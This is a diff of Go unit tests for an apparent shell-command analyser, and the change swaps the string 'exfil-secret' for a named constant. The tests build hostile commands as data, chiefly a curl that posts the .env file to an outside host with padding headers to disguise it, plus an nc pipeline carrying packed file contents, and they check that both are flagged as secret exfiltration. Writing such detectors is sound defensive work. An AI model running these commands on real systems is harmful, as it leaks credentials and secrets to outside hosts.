@@ -161,7 +161,7 @@ func TestBounded(t *testing.T) {
 		args = append(args, shell.Word{Text: "-H"}, shell.Word{Text: fmt.Sprint("a: ", i)})
 	}
 	args = append(args, shell.Word{Text: "-d"}, shell.Word{Text: "@.env"}, shell.Word{Text: "https://x.io"})
-	if got := Effects(&shell.Call{Name: "curl", Args: args}, nil); len(got) != 1 || got[0].Category != "exfil-secret" {
+	if got := Effects(&shell.Call{Name: "curl", Args: args}, nil); len(got) != 1 || got[0].Category != shell.ExfilSecret {
 		t.Errorf("padding hides the secret: %v", got)
 	}
 }
@@ -178,7 +178,7 @@ func TestFlatPipes(t *testing.T) {
 		t.Errorf("a count is no secret: %v", got)
 	}
 	nc.In = &shell.Flow{From: []*shell.Call{gz, cat}}
-	if got := Effects(&nc, nil); len(got) != 1 || got[0].Category != "exfil-secret" {
+	if got := Effects(&nc, nil); len(got) != 1 || got[0].Category != shell.ExfilSecret {
 		t.Errorf("a packed secret is one: %v", got)
 	}
 }
